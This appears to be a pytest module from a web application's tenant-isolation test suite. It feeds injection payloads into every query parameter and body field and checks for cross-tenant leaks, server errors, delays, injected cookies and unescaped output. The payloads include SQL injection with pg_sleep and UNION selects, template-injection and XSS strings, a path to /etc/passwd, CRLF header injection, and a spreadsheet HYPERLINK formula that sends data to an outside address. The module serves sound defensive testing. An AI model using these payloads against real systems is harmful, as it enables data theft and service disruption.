"""Attack 8: what people type is text and nothing else, in every search parameter and every field of every body."""

from collections.abc import Iterator
from typing import Any, TypeAlias
from uuid import UUID

import asyncpg
import httpx
import pytest

from tests.cast import NORTH
from tests.isolation.conftest import VisitorOf
from tests.isolation.surface import Route
from tests.isolation.test_http_matrix import not_own
from tests.isolation.visitor import Key, canaries_in, ids_of
from tests.isolation.world import World, rows_hashed

Owner: TypeAlias = "asyncpg.Connection[asyncpg.Record]"

PAYLOADS = {
    "context": f"x'; select set_config('casework.context', '{NORTH.id}', true); select pg_sleep(10); --",
    "union": f"x' or org_id <> '{NORTH.id}' union select id::text, family_name from clients --",
    "wildcards": "%_\\ %00 %(name)s {0.__class__} %s %n",
    "nul": "a\x00b",
    "template": "zz{{7*7}}zz zz${7*7}zz zz<%= 7*7 %>zz {{ config }}{% for x in ().__class__ %}{{ x }}{% endfor %}",
    "script": "<script>alert(1)</script>\"'><img src=x onerror=alert(1)>../../../etc/passwd",
    "formula": '=HYPERLINK("http://192.0.2.1/?x="&A1,"x")',
    "line break": "x\r\nSet-Cookie: casework=stolen\r\n\r\nx",
    "surrogate": "\ud800 \u202etxt.exe\u2066",
    "number": "9" * 400,
}
# A field that is refused must not shield the others, so these go into one text after the other.
THOROUGH = {"context", "script"}
SIGNS = ("<script>alert(1)", "<img src=x", "zz49zz", "root:x:", "<Config", "class 'object'")


def filled(route: Route, key: Key, payload: str, *, one_by_one: bool) -> Iterator[dict[str, Any]]:
    """Give bodies with the payload in their texts: in all at once, and in one after the other."""
    body, texts = route.sample(key) or {}, route.texts()
    if texts:
        yield {**body, **dict.fromkeys(texts, payload)}
    if one_by_one:
        yield from ({**body, name: payload} for name in texts)
        yield dict.fromkeys(body, payload)


@pytest.mark.parametrize("payload", PAYLOADS, ids=str)
async def test_parameters_and_addresses(
    routes: list[Route], visitor: VisitorOf, own: World, victim: World, payload: str
) -> None:
    cara, text = visitor("cara"), PAYLOADS[payload]
    sendable = text.encode("utf-8", "replace").decode()
    findings = []
    for route in routes:
        if route.method != "GET":
            continue
        for name in route.queries:
            reply = await cara.send(route, ids_of(own, route.path), params={name: sendable})
            if found := wrong(reply, own):
                findings.append(f"{route.name}?{name}: {found}")
    assert findings == []
    assert victim.canary


@pytest.mark.parametrize("payload", PAYLOADS, ids=str)
async def test_every_text_of_every_body(
    routes: list[Route], visitor: VisitorOf, behind: Owner, own: World, payload: str
) -> None:
    cara, text = visitor("cara"), PAYLOADS[payload]
    before = await rows_hashed(behind, NORTH)
    findings = []
    for route in routes:
        if route.safe or route.public or "password" in route.path:
            continue
        key = ids_of(own, route.path)
        for body in filled(route, key, text, one_by_one=payload in THOROUGH):
            reply = await cara.send(route, key, body=body)
            if found := wrong(reply, own):
                findings.append(f"{route.name} {body}: {found}")
    assert findings == []
    assert await rows_hashed(behind, NORTH) == before


def wrong(reply: httpx.Response, own: World) -> str:
    """Say what is wrong with an answer; nothing for one that is well."""
    if reply.status_code >= 500:
        return f"{reply.status_code}"
    if foreign := not_own(canaries_in(reply), own):
        return f"shows {foreign}"
    if reply.elapsed.total_seconds() > 8:
        return "was kept waiting"
    if "set-cookie" in reply.headers and "stolen" in reply.headers["set-cookie"]:
        return "sets a cookie"
    is_page = reply.headers.get("content-type", "").startswith("text/html")
    return f"shows {signs}" if is_page and (signs := [sign for sign in SIGNS if sign in reply.text]) else ""


async def test_what_was_typed_comes_back_escaped(visitor: VisitorOf, behind: Owner, own: World) -> None:
    """The very texts are stored, and shown on the pages as what they are."""
    cara = visitor("cara")
    await cara.sign_in()
    for name, text in PAYLOADS.items():
        if name in {"nul", "surrogate"}:
            continue
        note = {"entry": "note", "text": text}
        reply = await cara.client.post(f"/api/cases/{own.ids['cases']}/notes", json=note)
        assert reply.status_code == 201, reply.text
        kept = await behind.fetchval("select text from case_notes where id = $1", UUID(reply.json()["id"]))
        assert kept.split() == text.split(), name
        page = await cara.client.get(f"/cases/{own.ids['cases']}")
        assert page.status_code == 200
        assert not any(sign in page.text for sign in SIGNS), name
